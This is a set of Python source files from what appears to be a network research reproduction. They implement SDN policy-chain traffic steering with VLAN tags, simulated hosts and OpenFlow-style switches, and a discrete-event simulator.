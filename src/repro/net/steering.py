"""SIMPLE-style Traffic Steering Application (TSA).

The TSA owns *policy chains* — ordered sequences of middlebox **types** a
traffic class must traverse (paper Figure 5).  It resolves each type to a
physical middlebox host, allocates a VLAN tag block per chain, and
proactively installs OpenFlow rules so that tagged packets hop
middlebox-to-middlebox before the tag is popped and the packet is delivered
to its destination.

Tagging follows SIMPLE's scheme: the tag encodes chain **and position**.
A chain with base identifier ``c`` uses tag ``c + k`` on the path segment
*into* hop *k*; the rule at a middlebox's egress port bumps the tag to
``c + k + 1``.  Per-segment tags make (in-port, tag) keys unique even when
two segments of one chain traverse the same link in the same direction —
the case where a single per-chain tag forwards in circles.

The tag a DPI service instance reads is therefore ``c + position-of-dpi``
(Section 4.1's policy-chain identifier); the DPI controller accounts for
this when it distributes chain-to-middlebox mappings.

The DPI controller negotiates with the TSA to rewrite chains so that a DPI
service instance is visited before any middlebox that needs scan results
(Figure 1(b)).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, replace
from typing import Protocol

from repro.analysis.validators import raise_on_errors, validate_chains
from repro.net.controller import SDNController
from repro.net.openflow import ActionType, FlowAction, FlowMatch
from repro.net.topology import Topology


@dataclass
class PolicyChain:
    """An ordered list of middlebox types, e.g. ``("fw", "dpi", "ids")``."""

    name: str
    middlebox_types: tuple[str, ...]
    chain_id: int | None = None

    def with_service_before(self, service_type: str, before_type: str) -> "PolicyChain":
        """A copy with *service_type* inserted before *before_type*."""
        if service_type in self.middlebox_types:
            return self
        types = list(self.middlebox_types)
        try:
            index = types.index(before_type)
        except ValueError:
            raise KeyError(
                f"chain {self.name!r} has no middlebox of type {before_type!r}"
            ) from None
        types.insert(index, service_type)
        return replace(self, middlebox_types=tuple(types))

    def without_types(self, types_to_drop: set[str]) -> "PolicyChain":
        """A copy with every type in *types_to_drop* removed."""
        kept = tuple(t for t in self.middlebox_types if t not in types_to_drop)
        return replace(self, middlebox_types=kept)


@dataclass
class TrafficAssignment:
    """Binds a traffic class (src -> dst, optional L3/L4 fields) to a chain."""

    src_host: str
    dst_host: str
    chain_name: str
    ip_proto: int | None = None
    dst_port: int | None = None


@dataclass
class RealizedChain:
    """A chain after physical resolution: concrete host names, in order."""

    chain: PolicyChain
    hop_hosts: tuple[str, ...]


class ChainListener(Protocol):
    """Anything notified when the policy-chain set changes.

    This is the channel through which the DPI controller receives the
    policy chains (paper Section 4.1).
    """

    def policy_chains_changed(self, chains: "dict[str, PolicyChain]") -> None:
        """Called with the full chain map after every update."""
        ...


class TrafficSteeringApplication:
    """Computes and installs the steering rules for all policy chains."""

    CHAIN_PRIORITY = 200
    INGRESS_PRIORITY = 300
    HOST_ROUTE_PRIORITY = 50
    FIRST_CHAIN_ID = 100
    #: Tag block per chain: base id + segment index; bounds chain length.
    CHAIN_ID_STRIDE = 16

    def __init__(self, controller: SDNController, topology: Topology) -> None:
        self.controller = controller
        self.topology = topology
        self._chain_ids = itertools.count(
            self.FIRST_CHAIN_ID, self.CHAIN_ID_STRIDE
        )
        self.chains: dict[str, PolicyChain] = {}
        self.assignments: list[TrafficAssignment] = []
        # middlebox type -> list of host names offering it
        self._instances: dict[str, list[str]] = {}
        self._round_robin: dict[str, itertools.cycle] = {}
        self.realized: dict[str, RealizedChain] = {}
        self._chain_listeners: list[ChainListener] = []
        # (switch, in-port, tag) keys of rules already installed.
        self._installed_rules: set[tuple[str, int, int]] = set()
        self._host_routes_installed = False
        controller.register_application(self)

    # --- telemetry --------------------------------------------------------

    def _telemetry_registry(self):
        """The attached telemetry hub's registry, or None."""
        hub = self.topology.simulator.telemetry
        return None if hub is None else hub.registry

    def _install(self, switch_name, match, actions, priority):
        """Install one rule via the SDN controller, counting it."""
        registry = self._telemetry_registry()
        if registry is not None:
            registry.counter("tsa_rules_installed_total").inc()
        return self.controller.install(
            switch_name, match, actions, priority=priority
        )

    # --- registration -----------------------------------------------------

    def register_middlebox_instance(self, middlebox_type: str, host_name: str) -> None:
        """Declare that *host_name* offers middlebox *middlebox_type*."""
        if host_name not in self.topology.hosts:
            raise KeyError(f"unknown host: {host_name}")
        self._instances.setdefault(middlebox_type, [])
        if host_name not in self._instances[middlebox_type]:
            self._instances[middlebox_type].append(host_name)
            self._round_robin[middlebox_type] = itertools.cycle(
                self._instances[middlebox_type]
            )

    def instances_of(self, middlebox_type: str) -> list[str]:
        """Host names registered for a middlebox type."""
        return list(self._instances.get(middlebox_type, []))

    def add_policy_chain(self, chain: PolicyChain) -> PolicyChain:
        """Register a chain and allocate its tag block (base VLAN tag)."""
        if chain.name in self.chains:
            raise ValueError(f"duplicate chain name: {chain.name}")
        self._check_chain_length(chain.middlebox_types)
        if chain.chain_id is None:
            chain = replace(chain, chain_id=next(self._chain_ids))
        self.chains[chain.name] = chain
        registry = self._telemetry_registry()
        if registry is not None:
            registry.gauge_callback("tsa_chains", lambda: len(self.chains))
        self._notify_chain_listeners()
        return chain

    def _check_chain_length(self, middlebox_types) -> None:
        # Segments = hops + the final one into the destination.
        if len(middlebox_types) + 1 >= self.CHAIN_ID_STRIDE:
            raise ValueError(
                f"chain too long: {len(middlebox_types)} middleboxes exceed "
                f"the {self.CHAIN_ID_STRIDE - 2}-hop tag block"
            )

    def add_chain_listener(self, listener: ChainListener) -> None:
        """*listener.policy_chains_changed(chains)* is called on updates.

        This is the channel through which the DPI controller receives the
        policy chains (paper Section 4.1).
        """
        self._chain_listeners.append(listener)
        listener.policy_chains_changed(dict(self.chains))

    def _notify_chain_listeners(self) -> None:
        for listener in self._chain_listeners:
            listener.policy_chains_changed(dict(self.chains))

    def rewrite_chain(self, chain_name: str, new_types: tuple[str, ...]) -> PolicyChain:
        """Replace the middlebox-type sequence of an existing chain.

        Used by the DPI controller to insert the DPI service.  The chain
        keeps its identifier so in-flight classification stays valid.
        """
        self._check_chain_length(new_types)
        old = self.chains[chain_name]
        updated = replace(old, middlebox_types=new_types)
        self.chains[chain_name] = updated
        self._notify_chain_listeners()
        return updated

    def assign_traffic(self, assignment: TrafficAssignment) -> None:
        """Bind a traffic class to a policy chain."""
        if assignment.chain_name not in self.chains:
            raise KeyError(f"unknown chain: {assignment.chain_name}")
        self.assignments.append(assignment)

    # --- realization -----------------------------------------------------------

    def resolve_chain(self, chain: PolicyChain) -> RealizedChain:
        """Pick a physical host for every middlebox type in the chain.

        Per-segment tags disambiguate position, so a host may legitimately
        appear at several hops of the same chain.
        """
        hops = []
        for middlebox_type in chain.middlebox_types:
            instances = self._instances.get(middlebox_type)
            if not instances:
                raise KeyError(
                    f"no registered instance for middlebox type {middlebox_type!r}"
                )
            hops.append(next(self._round_robin[middlebox_type]))
        return RealizedChain(chain=chain, hop_hosts=tuple(hops))

    @staticmethod
    def segment_tag(chain: PolicyChain, segment: int) -> int:
        """The VLAN tag on the path *into* hop *segment* (0-based)."""
        return chain.chain_id + segment

    def realize(self, validate: bool = True) -> None:
        """Compute and install every rule: host routes, ingress classifiers
        and per-hop chain forwarding.

        With ``validate=True`` (the default) the chains and assignments
        are statically checked first
        (:func:`repro.analysis.validators.validate_chains`); error-grade
        issues raise :class:`~repro.analysis.validators.ValidationError`
        *before* any rule is installed, so a misconfigured chain cannot
        leave a switch half-programmed.
        """
        if validate:
            raise_on_errors(validate_chains(self))
        self._install_host_routes()
        for assignment in self.assignments:
            chain = self.chains[assignment.chain_name]
            realized = self.realized.get(chain.name)
            if realized is None or realized.chain is not chain:
                realized = self.resolve_chain(chain)
                self.realized[chain.name] = realized
            self._install_assignment(assignment, realized)

    def _install_host_routes(self) -> None:
        """Shortest-path delivery for untagged unicast traffic to each host."""
        if self._host_routes_installed:
            return
        self._host_routes_installed = True
        for host_name, host in self.topology.hosts.items():
            for switch_name in self.topology.switches:
                path = self.topology.shortest_path(switch_name, host_name)
                next_hop = path[1]
                out_port = self.topology.port_toward(switch_name, next_hop)
                self._install(
                    switch_name,
                    FlowMatch(eth_dst=host.mac, vlan_vid=FlowMatch.NO_VLAN),
                    [FlowAction.output(out_port)],
                    priority=self.HOST_ROUTE_PRIORITY,
                )

    def _install_assignment(
        self, assignment: TrafficAssignment, realized: RealizedChain
    ) -> None:
        chain = realized.chain
        hops = list(realized.hop_hosts)
        if not hops:
            # Empty chain: untagged host routes already deliver the traffic.
            return
        self._install_ingress(assignment, chain, hops[0])
        # Segment k+1 leaves hop k; the rule at the hop's egress bumps the
        # tag from c+k to c+k+1 (the final segment pops instead).
        waypoints = hops + [assignment.dst_host]
        for k in range(len(hops)):
            self._install_bumped_segment(
                chain,
                segment=k + 1,
                from_host=waypoints[k],
                to_host=waypoints[k + 1],
                final=(k == len(hops) - 1),
            )

    def _install_ingress(
        self, assignment: TrafficAssignment, chain: PolicyChain, first_hop: str
    ) -> None:
        """Classify at the switch adjacent to the source host: push tag
        ``c+0`` and forward toward hop 0."""
        src = assignment.src_host
        path = self.topology.shortest_path(src, first_hop)
        ingress_switch = path[1]
        in_port = self.topology.port_toward(ingress_switch, src)
        src_host = self.topology.hosts[src]
        match = FlowMatch(
            in_port=in_port,
            eth_src=src_host.mac,
            vlan_vid=FlowMatch.NO_VLAN,
            ip_proto=assignment.ip_proto,
            dst_port=assignment.dst_port,
        )
        tag = self.segment_tag(chain, 0)
        actions = [FlowAction.push_vlan(tag)]
        actions += self._forward_actions(ingress_switch, path[1:], final=False)
        self._install(
            ingress_switch, match, actions, priority=self.INGRESS_PRIORITY
        )
        # Remaining switches on the way to the first hop:
        self._install_tagged_path(tag, path, skip_first_switch=True, final=False)

    def _install_bumped_segment(
        self,
        chain: PolicyChain,
        segment: int,
        from_host: str,
        to_host: str,
        final: bool,
    ) -> None:
        """Steer packets re-entering from *from_host* toward *to_host*.

        The first switch matches the previous segment's tag and rewrites it
        to this segment's (or pops it when it is also the last switch before
        the destination).
        """
        old_tag = self.segment_tag(chain, segment - 1)
        new_tag = self.segment_tag(chain, segment)
        path = self.topology.shortest_path(from_host, to_host)
        first_switch = path[1]
        in_port = self.topology.port_toward(first_switch, from_host)
        rule_key = (first_switch, in_port, old_tag)
        if rule_key not in self._installed_rules:
            self._installed_rules.add(rule_key)
            match = FlowMatch(in_port=in_port, vlan_vid=old_tag)
            out_port = self.topology.port_toward(first_switch, path[2])
            if final and path[2] == to_host:
                actions = [FlowAction.pop_vlan(), FlowAction.output(out_port)]
            else:
                actions = [
                    FlowAction.set_vlan_vid(new_tag),
                    FlowAction.output(out_port),
                ]
            self._install(
                first_switch, match, actions, priority=self.CHAIN_PRIORITY
            )
        self._install_tagged_path(new_tag, path, skip_first_switch=True, final=final)

    def _install_tagged_path(
        self, tag: int, path: list[str], skip_first_switch: bool, final: bool
    ) -> None:
        """Install (tag, in-port) -> output rules along *path*.

        *path* runs node-to-node (host or switch endpoints); rules are only
        installed on the switch nodes.
        """
        for index in range(1, len(path) - 1):
            node = path[index]
            if node not in self.topology.switches:
                continue
            if skip_first_switch and index == 1:
                continue
            in_port = self.topology.port_toward(node, path[index - 1])
            rule_key = (node, in_port, tag)
            if rule_key in self._installed_rules:
                continue
            self._installed_rules.add(rule_key)
            match = FlowMatch(in_port=in_port, vlan_vid=tag)
            actions = self._forward_actions(node, path[index:], final=final)
            self._install(
                node, match, actions, priority=self.CHAIN_PRIORITY
            )

    def _forward_actions(
        self, switch_name: str, remaining_path: list[str], final: bool
    ) -> list[FlowAction]:
        """Output action (plus tag pop when delivering to the destination)."""
        next_node = remaining_path[1]
        out_port = self.topology.port_toward(switch_name, next_node)
        actions: list[FlowAction] = []
        if final and next_node in self.topology.hosts:
            actions.append(FlowAction.pop_vlan())
        actions.append(FlowAction.output(out_port))
        return actions

    # --- failover re-steering (fault recovery) ------------------------------

    def resteer_chain(
        self, chain_name: str, replacement_hops: "dict[str, str | None]"
    ) -> RealizedChain:
        """Re-steer a realized chain around failed hop hosts.

        ``replacement_hops`` maps a host currently on the chain's realized
        path to its substitute (e.g. a crashed DPI instance's host -> a
        surviving instance's host), or to ``None`` to drop the hop from the
        path entirely (graceful degradation: middleboxes scan locally, so
        the DPI hop is bypassed).  Every rule in the chain's tag block —
        ingress classifiers, per-segment forwarding, and flow pins — is
        removed from the switches and reinstalled against the new path, so
        packets already steered keep a consistent rule set and new packets
        never see the failed hop.  Returns the updated realization.
        """
        realized = self.realized.get(chain_name)
        if realized is None:
            raise KeyError(f"chain {chain_name!r} has not been realized")
        chain = realized.chain
        for original in replacement_hops:
            if original not in realized.hop_hosts:
                raise KeyError(
                    f"{original!r} is not a hop of chain {chain_name!r}"
                )
        new_hops = tuple(
            replacement_hops.get(hop, hop)
            for hop in realized.hop_hosts
            if replacement_hops.get(hop, hop) is not None
        )
        return self.reinstall_chain(chain_name, new_hops)

    def reinstall_chain(
        self, chain_name: str, hop_hosts: "tuple[str, ...]"
    ) -> RealizedChain:
        """Replace a realized chain's hop hosts and rebuild its rules.

        The low-level half of :meth:`resteer_chain`; also used directly to
        *reattach* a chain to its original path once a failed hop recovers
        (the original hop list cannot be expressed as a replacement map
        when degradation removed the hop entirely).
        """
        realized = self.realized.get(chain_name)
        if realized is None:
            raise KeyError(f"chain {chain_name!r} has not been realized")
        chain = realized.chain
        self._remove_chain_rules(chain)
        updated = RealizedChain(chain=chain, hop_hosts=tuple(hop_hosts))
        self.realized[chain_name] = updated
        for assignment in self.assignments:
            if assignment.chain_name == chain_name:
                self._install_assignment(assignment, updated)
        registry = self._telemetry_registry()
        if registry is not None:
            registry.counter("tsa_resteers_total").inc()
        return updated

    def _remove_chain_rules(self, chain: PolicyChain) -> int:
        """Uninstall every switch rule referencing the chain's tag block."""
        tags = range(chain.chain_id, chain.chain_id + self.CHAIN_ID_STRIDE)

        def references_chain(entry) -> bool:
            vid = entry.match.vlan_vid
            if vid is not None and vid in tags:
                return True
            return any(
                action.type
                in (ActionType.PUSH_VLAN, ActionType.SET_VLAN_VID)
                and action.argument in tags
                for action in entry.actions
            )

        removed = 0
        for switch in self.topology.switches.values():
            removed += switch.flow_remove(references_chain)
        self._installed_rules = {
            key for key in sorted(self._installed_rules) if key[2] not in tags
        }
        return removed

    # --- per-flow repinning (DPI flow migration, Section 4.3) ----------------

    FLOW_PIN_PRIORITY = 400

    def pin_flow(
        self,
        chain_name: str,
        src_host: str,
        five_tuple,
        replacement_hops: dict[str, str],
    ) -> "list[tuple[str, object]]":
        """Steer one flow of an assigned chain through substitute hops.

        ``replacement_hops`` maps a host name on the chain's realized path
        to the host that should serve this flow instead (e.g. the stressed
        DPI instance's host -> the dedicated instance's host).  Rules are
        installed at :data:`FLOW_PIN_PRIORITY`, above the chain's generic
        rules, matching the flow's 5-tuple at the ingress; the tagged
        per-hop rules for the substitute hosts are shared with any other
        pinned flow of the same chain.

        Returns the installed ingress entries (so a caller can remove them
        when the migration is rolled back).
        """
        realized = self.realized.get(chain_name)
        if realized is None:
            raise KeyError(f"chain {chain_name!r} has not been realized")
        chain = realized.chain
        for original in replacement_hops:
            if original not in realized.hop_hosts:
                raise KeyError(
                    f"{original!r} is not a hop of chain {chain_name!r}"
                )
        new_hops = tuple(
            replacement_hops.get(hop, hop) for hop in realized.hop_hosts
        )
        assignment = next(
            (
                a
                for a in self.assignments
                if a.chain_name == chain_name and a.src_host == src_host
            ),
            None,
        )
        if assignment is None:
            raise KeyError(
                f"no assignment of chain {chain_name!r} from {src_host!r}"
            )
        registry = self._telemetry_registry()
        if registry is not None:
            registry.counter("tsa_flow_pins_total").inc()
        installed = [
            self._install_flow_ingress(chain, src_host, new_hops[0], five_tuple)
        ]
        waypoints = list(new_hops) + [assignment.dst_host]
        for k in range(len(new_hops)):
            self._install_bumped_segment(
                chain,
                segment=k + 1,
                from_host=waypoints[k],
                to_host=waypoints[k + 1],
                final=(k == len(new_hops) - 1),
            )
        return installed

    def _install_flow_ingress(
        self, chain: PolicyChain, src: str, first_hop: str, five_tuple
    ) -> "tuple[str, object]":
        path = self.topology.shortest_path(src, first_hop)
        ingress_switch = path[1]
        in_port = self.topology.port_toward(ingress_switch, src)
        match = FlowMatch(
            in_port=in_port,
            vlan_vid=FlowMatch.NO_VLAN,
            ip_src=five_tuple.src_ip,
            ip_dst=five_tuple.dst_ip,
            ip_proto=five_tuple.protocol,
            src_port=five_tuple.src_port,
            dst_port=five_tuple.dst_port,
        )
        tag = self.segment_tag(chain, 0)
        actions = [FlowAction.push_vlan(tag)]
        actions += self._forward_actions(ingress_switch, path[1:], final=False)
        entry = self._install(
            ingress_switch, match, actions, priority=self.FLOW_PIN_PRIORITY
        )
        self._install_tagged_path(tag, path, skip_first_switch=True, final=False)
        return (ingress_switch, entry)

    def unpin_flow(self, installed: "list[tuple[str, object]]") -> int:
        """Remove the ingress entries returned by :meth:`pin_flow`."""
        removed = 0
        for switch_name, entry in installed:
            switch = self.topology.switches[switch_name]
            if switch.table.remove(entry.entry_id):
                removed += 1
        return removed

    # --- packet-in (proactive app: never consumes events) ------------------

    def handle_packet_in(self, switch, packet, in_port) -> bool:
        """Packet-in hook (proactive app: never consumes events)."""
        return False
