"""Hosts and attachable network functions.

A :class:`Host` is an endpoint with one port.  Its behaviour is pluggable via
a :class:`NetworkFunction`: user hosts record received packets, middlebox
hosts and DPI service instances process packets and may emit new ones.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.addresses import IPv4Address, MACAddress
from repro.net.links import Link
from repro.net.packet import Packet
from repro.net.simulator import Simulator


class NetworkFunction:
    """Behaviour attached to a host.

    Subclasses override :meth:`process`, returning the packets to transmit in
    response (possibly including the input packet itself to forward it on).
    """

    def attach(self, host: "Host") -> None:
        """Called when the function is bound to its host."""
        self.host = host

    def process(self, packet: Packet) -> list[Packet]:
        """Handle one received packet; return packets to send."""
        raise NotImplementedError


class RecordingFunction(NetworkFunction):
    """Default endpoint behaviour: keep every received packet."""

    def __init__(self) -> None:
        self.received: list[Packet] = []

    def process(self, packet: Packet) -> list[Packet]:
        """Handle one received packet; return packets to send."""
        self.received.append(packet)
        return []


@dataclass
class HostStats:
    """Plain counters container."""
    packets_sent: int = 0
    packets_received: int = 0
    bytes_sent: int = 0
    bytes_received: int = 0


class Host:
    """A single-homed network endpoint."""

    def __init__(
        self,
        simulator: Simulator,
        name: str,
        mac: MACAddress,
        ip: IPv4Address,
        function: NetworkFunction | None = None,
    ) -> None:
        self._simulator = simulator
        self.name = name
        self.mac = mac
        self.ip = ip
        self._link: Link | None = None
        self.stats = HostStats()
        self.function = function if function is not None else RecordingFunction()
        self.function.attach(self)

    def set_function(self, function: NetworkFunction) -> None:
        """Replace the host's behaviour (e.g. once a DPI instance exists)."""
        self.function = function
        function.attach(self)

    def __repr__(self) -> str:
        return f"<Host {self.name} {self.ip} ({self.mac})>"

    @property
    def simulator(self) -> Simulator:
        """The discrete-event engine this host runs on."""
        return self._simulator

    def attach_link(self, port: int, link: Link) -> None:
        """Hosts have exactly one uplink (port number is ignored)."""
        if self._link is not None:
            raise ValueError(f"{self.name}: host already has a link")
        self._link = link

    def send(self, packet: Packet) -> bool:
        """Transmit *packet* on the uplink."""
        if self._link is None:
            raise RuntimeError(f"{self.name}: host has no link")
        self.stats.packets_sent += 1
        self.stats.bytes_sent += packet.wire_length
        hub = self._simulator.telemetry
        if hub is not None and packet.trace is None and not packet.is_result_packet:
            # First transmission of a data packet: this host is its origin.
            registry = hub.registry
            registry.counter("host_packets_origin_total", host=self.name).inc()
            registry.counter(
                "host_payload_bytes_origin_total", host=self.name
            ).inc(len(packet.payload))
            tracer = hub.tracer
            if tracer is not None:
                span = tracer.record(
                    "steer",
                    host=self.name,
                    packet_id=packet.packet_id,
                    payload_bytes=len(packet.payload),
                )
                packet.trace = span.context
            else:
                # Sentinel context: marks the packet as already counted so
                # forwarding hops never look like origins.
                packet.trace = (0, 0)
        return self._link.send_from(self, packet)

    def receive(self, packet: Packet, port: int) -> None:
        """Deliver a packet to the host's network function."""
        self.stats.packets_received += 1
        self.stats.bytes_received += packet.wire_length
        hub = self._simulator.telemetry
        if (
            hub is not None
            and hub.tracer is not None
            and packet.trace is not None
            and packet.trace[0]
        ):
            hub.tracer.record(
                "deliver",
                parent=packet.trace,
                host=self.name,
                packet_id=packet.packet_id,
                result=packet.is_result_packet,
            )
        for response in self.function.process(packet):
            self.send(response)

    @property
    def received_packets(self) -> list[Packet]:
        """Packets recorded by a :class:`RecordingFunction` endpoint."""
        if isinstance(self.function, RecordingFunction):
            return self.function.received
        raise TypeError(f"{self.name}: function does not record packets")
