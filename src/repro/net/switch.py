"""An OpenFlow-style switch for the simulated data plane.

The switch applies its flow table to every packet.  On a table miss it
forwards the packet to its controller (packet-in), which may install rules
(flow-mod) and tell the switch what to do with the pending packet
(packet-out).  Without a controller, missed packets are dropped.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.links import Link
from repro.net.openflow import ActionType, FlowEntry, FlowTable
from repro.net.packet import Packet
from repro.net.simulator import Simulator


@dataclass
class SwitchStats:
    """Plain counters container."""
    packets_received: int = 0
    packets_forwarded: int = 0
    packets_flooded: int = 0
    packets_dropped: int = 0
    table_misses: int = 0
    per_port_rx: dict = field(default_factory=dict)
    per_port_tx: dict = field(default_factory=dict)


class Switch:
    """A named switch with numbered ports and a single flow table."""

    def __init__(self, simulator: Simulator, name: str) -> None:
        self._simulator = simulator
        self.name = name
        self.table = FlowTable()
        self._ports: dict[int, Link] = {}
        self._controller = None
        self.stats = SwitchStats()
        # Lazily bound telemetry (the hub may attach after construction).
        self._hub = None
        self._m_packets = None
        self._m_misses = None

    def __repr__(self) -> str:
        return f"<Switch {self.name} ports={sorted(self._ports)}>"

    # --- wiring -----------------------------------------------------------

    def attach_link(self, port: int, link: Link) -> None:
        """Bind *link* to *port*; ports must be unique."""
        if port in self._ports:
            raise ValueError(f"{self.name}: port {port} already in use")
        self._ports[port] = link

    def set_controller(self, controller) -> None:
        """Register the SDN controller receiving packet-in events."""
        self._controller = controller

    @property
    def ports(self) -> list[int]:
        """The switch's port numbers, sorted."""
        return sorted(self._ports)

    # --- data plane ---------------------------------------------------------

    def receive(self, packet: Packet, in_port: int) -> None:
        """Handle a packet arriving on *in_port*."""
        self.stats.packets_received += 1
        self.stats.per_port_rx[in_port] = self.stats.per_port_rx.get(in_port, 0) + 1
        hub = self._simulator.telemetry
        if hub is not None:
            if hub is not self._hub:
                self._hub = hub
                registry = hub.registry
                self._m_packets = registry.counter(
                    "switch_packets_total", switch=self.name
                )
                self._m_misses = registry.counter(
                    "switch_table_misses_total", switch=self.name
                )
            self._m_packets.inc()
            tracer = hub.tracer
            if tracer is not None and packet.trace is not None and packet.trace[0]:
                tag = packet.outer_vlan
                tracer.record(
                    "hop",
                    parent=packet.trace,
                    switch=self.name,
                    port=in_port,
                    vid=tag.vid if tag is not None else None,
                )
        entry = self.table.lookup(packet, in_port)
        if entry is None:
            self.stats.table_misses += 1
            if self._m_misses is not None and hub is not None:
                self._m_misses.inc()
            if self._controller is not None:
                self._controller.packet_in(self, packet, in_port)
            else:
                self.stats.packets_dropped += 1
            return
        self.apply_actions(packet, entry, in_port)

    def apply_actions(self, packet: Packet, entry: FlowEntry, in_port: int) -> None:
        """Execute an entry's action list on *packet*."""
        self.execute(packet, entry.actions, in_port)

    def execute(self, packet: Packet, actions, in_port: int) -> None:
        """Execute an explicit action list (used for packet-out too)."""
        forwarded = False
        for action in actions:
            if action.type is ActionType.OUTPUT:
                self._send(packet, action.argument)
                forwarded = True
            elif action.type is ActionType.FLOOD:
                self._flood(packet, in_port)
                forwarded = True
            elif action.type is ActionType.DROP:
                self.stats.packets_dropped += 1
                return
            elif action.type is ActionType.CONTROLLER:
                if self._controller is not None:
                    self._controller.packet_in(self, packet, in_port)
                forwarded = True
            else:
                action.apply(packet)
        if not forwarded:
            self.stats.packets_dropped += 1

    def _send(self, packet: Packet, port: int) -> None:
        link = self._ports.get(port)
        if link is None:
            self.stats.packets_dropped += 1
            return
        self.stats.packets_forwarded += 1
        self.stats.per_port_tx[port] = self.stats.per_port_tx.get(port, 0) + 1
        link.send_from(self, packet.copy())

    def _flood(self, packet: Packet, in_port: int) -> None:
        self.stats.packets_flooded += 1
        for port, link in self._ports.items():
            if port == in_port:
                continue
            self.stats.per_port_tx[port] = self.stats.per_port_tx.get(port, 0) + 1
            link.send_from(self, packet.copy())

    # --- control plane -----------------------------------------------------

    def flow_mod(self, entry: FlowEntry) -> FlowEntry:
        """Install a flow entry (controller -> switch)."""
        return self.table.install(entry)

    def flow_remove(self, predicate) -> int:
        """Remove entries selected by *predicate*."""
        return self.table.remove_matching(predicate)

    def packet_out(self, packet: Packet, actions, in_port: int = -1) -> None:
        """Inject *packet* with an explicit action list (controller)."""
        self.execute(packet, actions, in_port)
