"""Deterministic discrete-event simulator.

All data-plane components (links, switches, hosts) schedule work through one
:class:`Simulator`.  Events fire in timestamp order; ties break by insertion
order, which keeps runs fully reproducible.
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Callable


@dataclass(order=True)
class Event:
    """A scheduled callback; comparison order drives the event queue."""

    time: float
    sequence: int
    callback: Callable[[], None] = field(compare=False)
    label: str = field(compare=False, default="")
    cancelled: bool = field(compare=False, default=False)


class Simulator:
    """A minimal discrete-event engine with a simulated clock in seconds."""

    def __init__(self) -> None:
        self._queue: list[Event] = []
        self._sequence = itertools.count()
        self._now = 0.0
        self._events_processed = 0
        self._running = False
        #: The attached :class:`~repro.telemetry.TelemetryHub`, or None.
        #: Data-plane components read it lazily, so telemetry can be
        #: attached after the topology is built.
        self.telemetry = None

    def attach_telemetry(self, hub) -> None:
        """Attach a telemetry hub and register the simulator gauges.

        The gauges are callback-backed, so the event loop itself pays
        nothing to keep them current.
        """
        self.telemetry = hub
        registry = hub.registry
        registry.gauge_callback("sim_clock_seconds", lambda: self._now)
        registry.gauge_callback(
            "sim_events_processed", lambda: self._events_processed
        )
        registry.gauge_callback("sim_pending_events", lambda: len(self._queue))

    @property
    def now(self) -> float:
        """Current simulated time in seconds."""
        return self._now

    @property
    def events_processed(self) -> int:
        """Events run since construction."""
        return self._events_processed

    @property
    def pending_events(self) -> int:
        """Events still queued."""
        return len(self._queue)

    def schedule(
        self, delay: float, callback: Callable[[], None], label: str = ""
    ) -> Event:
        """Schedule *callback* to run *delay* seconds from now."""
        if delay < 0:
            raise ValueError(f"cannot schedule in the past: delay={delay}")
        event = Event(
            time=self._now + delay,
            sequence=next(self._sequence),
            callback=callback,
            label=label,
        )
        heapq.heappush(self._queue, event)
        return event

    def schedule_at(
        self, time: float, callback: Callable[[], None], label: str = ""
    ) -> Event:
        """Schedule *callback* at absolute simulated *time*."""
        if time < self._now:
            raise ValueError(
                f"cannot schedule in the past: time={time} < now={self._now}"
            )
        return self.schedule(time - self._now, callback, label)

    def cancel(self, event: Event) -> None:
        """Cancel a pending event: it stays queued but will not run.

        Cancellation is how timers (heartbeat timeouts, retry backoff) are
        disarmed without disturbing the deterministic sequence numbering of
        the remaining events.  Cancelling an already-run or already-
        cancelled event is a no-op.
        """
        event.cancelled = True

    def run(self, until: float | None = None, max_events: int | None = None) -> int:
        """Process events until the queue drains, *until* passes, or
        *max_events* events have run.  Returns the number of events run."""
        processed = 0
        self._running = True
        try:
            while self._queue:
                if max_events is not None and processed >= max_events:
                    break
                if until is not None and self._queue[0].time > until:
                    self._now = until
                    break
                event = heapq.heappop(self._queue)
                if event.cancelled:
                    continue
                self._now = event.time
                event.callback()
                processed += 1
                self._events_processed += 1
        finally:
            self._running = False
        return processed

    def reset(self) -> None:
        """Drop all pending events and rewind the clock to zero."""
        if self._running:
            raise RuntimeError("cannot reset a running simulator")
        self._queue.clear()
        self._now = 0.0
        self._events_processed = 0
