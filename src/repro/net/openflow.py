"""OpenFlow-style flow tables: matches, actions and prioritized lookup.

This models the subset of OpenFlow 1.0-ish semantics the paper's steering
layer needs: exact/wildcard matching on in-port, Ethernet, VLAN, IP and L4
fields, plus actions to forward, flood, push/pop VLAN and MPLS tags, rewrite
the VLAN VID and send to the controller.
"""

from __future__ import annotations

import enum
import itertools
from dataclasses import dataclass, field

from repro.net.addresses import IPv4Address, MACAddress
from repro.net.packet import MplsLabel, Packet, VlanTag

_entry_ids = itertools.count(1)


@dataclass(frozen=True)
class FlowMatch:
    """Wildcard match over packet fields; ``None`` fields match anything.

    ``vlan_vid`` matches the *outer* VLAN tag.  Use ``NO_VLAN`` to require the
    absence of any VLAN tag.
    """

    NO_VLAN = -1

    in_port: int | None = None
    eth_src: MACAddress | None = None
    eth_dst: MACAddress | None = None
    vlan_vid: int | None = None
    mpls_label: int | None = None
    ip_src: IPv4Address | None = None
    ip_dst: IPv4Address | None = None
    ip_proto: int | None = None
    src_port: int | None = None
    dst_port: int | None = None

    def matches(self, packet: Packet, in_port: int) -> bool:
        """True if *packet* arriving on *in_port* satisfies every field."""
        if self.in_port is not None and in_port != self.in_port:
            return False
        if self.eth_src is not None and packet.eth.src != self.eth_src:
            return False
        if self.eth_dst is not None and packet.eth.dst != self.eth_dst:
            return False
        if self.vlan_vid is not None:
            outer = packet.outer_vlan
            if self.vlan_vid == self.NO_VLAN:
                if outer is not None:
                    return False
            elif outer is None or outer.vid != self.vlan_vid:
                return False
        if self.mpls_label is not None:
            outer_mpls = packet.outer_mpls
            if outer_mpls is None or outer_mpls.label != self.mpls_label:
                return False
        if self.ip_src is not None and packet.ip.src != self.ip_src:
            return False
        if self.ip_dst is not None and packet.ip.dst != self.ip_dst:
            return False
        if self.ip_proto is not None and packet.ip.protocol != self.ip_proto:
            return False
        if self.src_port is not None and packet.l4.src_port != self.src_port:
            return False
        if self.dst_port is not None and packet.l4.dst_port != self.dst_port:
            return False
        return True

    def specificity(self) -> int:
        """Number of concrete (non-wildcard) fields; used for diagnostics."""
        return sum(
            value is not None
            for value in (
